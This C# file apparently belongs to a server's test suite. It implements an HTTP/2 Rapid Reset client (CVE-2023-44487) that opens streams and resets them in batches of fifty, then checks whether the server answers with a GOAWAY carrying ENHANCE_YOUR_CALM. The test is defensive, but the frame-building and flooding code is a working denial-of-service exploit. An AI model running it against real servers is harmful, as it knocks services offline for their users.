using System.Buffers.Binary;
using System.Net.Security;
using System.Text;
using Plenum.Tests.Running;

namespace Plenum.Tests.Doors;

/// <summary>Speaks just enough HTTP/2 to ask for something and take it back at once, again and again (CVE-2023-44487).</summary>
internal sealed class RapidReset : IDisposable
{
    public const int EnhanceYourCalm = 11;
    private const byte Headers = 1;
    private const byte EndStream = 1;
    private const byte EndHeaders = 4;
    private const byte Reset = 3;
    private const byte Settings = 4;
    private const byte GoAway = 7;
    private const int AtATime = 50;
    private readonly SslStream tls;
    private readonly byte[] request;
    private readonly Task<int?> farewell;
    private readonly TaskCompletionSource answered = new(TaskCreationOptions.RunContinuationsAsynchronously);
    private int lastStream = 1;

    private RapidReset(SslStream tls, string authority)
    {
        this.tls = tls;
        // GET, https, a path and an authority, each as HPACK writes it without tables and without Huffman.
        request = [0x82, 0x87, .. Literal(4, "/api/client/v2/status"), .. Literal(1, authority)];
        farewell = Listen();
    }

    /// <summary>The first request is left in peace and is answered: the server understands us.</summary>
    public static async Task<RapidReset> Begin(TlsServer server)
    {
        var tls = await server.Connect();
        await tls.WriteAsync((byte[])[.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(Settings, 0, 0, [])]);
        var reset = new RapidReset(tls, server.Address.Authority);
        await tls.WriteAsync(Frame(Headers, EndStream | EndHeaders, 1, reset.request));
        await reset.answered.Task.WaitAsync(Visitor.Patience);
        return reset;
    }

    /// <summary>How many streams were opened before the server ended it.</summary>
    public async Task<int> GoOnUntilCutOff(int most)
    {
        var sent = 0;
        try
        {
            for (; sent < most && !farewell.IsCompleted; sent += AtATime) await tls.WriteAsync(Some());
        }
        catch (IOException)
        {
            // The server has closed the connection while we were still talking.
        }

        return sent;
    }

    /// <summary>The reason in the server's last words; null when it went without any.</summary>
    public Task<int?> GoodBye() => farewell.WaitAsync(Visitor.Patience);

    public void Dispose() => tls.Dispose();

    private byte[] Some()
    {
        var bytes = new List<byte>();
        for (var i = 0; i < AtATime; i++)
        {
            lastStream += 2;
            bytes.AddRange(Frame(Headers, EndStream | EndHeaders, lastStream, request));
            bytes.AddRange(Frame(Reset, 0, lastStream, [0, 0, 0, 8]));
        }

        return [.. bytes];
    }

    private async Task<int?> Listen()
    {
        var head = new byte[9];
        try
        {
            while (true)
            {
                await tls.ReadExactlyAsync(head);
                var payload = new byte[(head[0] << 16) | (head[1] << 8) | head[2]];
                await tls.ReadExactlyAsync(payload);
                if (head[3] == Headers) answered.TrySetResult();
                if (head[3] == GoAway) return BinaryPrimitives.ReadInt32BigEndian(payload.AsSpan(4));
            }
        }
        catch (IOException)
        {
            return null;
        }
    }

    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
    {
        var head = new byte[9];
        BinaryPrimitives.WriteInt32BigEndian(head, payload.Length << 8);
        (head[3], head[4]) = (type, flags);
        BinaryPrimitives.WriteInt32BigEndian(head.AsSpan(5), stream);
        return [.. head, .. payload];
    }

    private static byte[] Literal(byte name, string value) => [name, (byte)value.Length, .. Encoding.ASCII.GetBytes(value)];
}
